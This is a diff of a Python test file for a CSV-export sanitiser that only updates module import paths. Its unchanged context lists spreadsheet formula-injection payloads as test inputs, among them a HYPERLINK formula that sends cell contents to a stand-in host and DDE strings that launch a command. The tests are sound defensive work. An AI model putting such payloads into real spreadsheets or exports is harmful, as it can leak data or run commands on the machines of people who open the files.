@@ -8,7 +8,7 @@ import io
 import pytest
 from hypothesis import given, settings, strategies as st
 
-from workbench.safeio import FORMULA_TRIGGERS, csv_safe_cell, csv_safe_row
+from workbench.core.safeio import FORMULA_TRIGGERS, csv_safe_cell, csv_safe_row
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", "=1+1"]
@@ -55,7 +55,7 @@ def test_glossary_csv_and_tsv_exports_neutralise_formulas_and_round_trip(terms, 
     import tempfile
     from pathlib import Path
 
-    from workbench.errors import WorkbenchError
+    from workbench.core.errors import WorkbenchError
     from workbench.glossary import Glossary
 
     g = Glossary([], None)
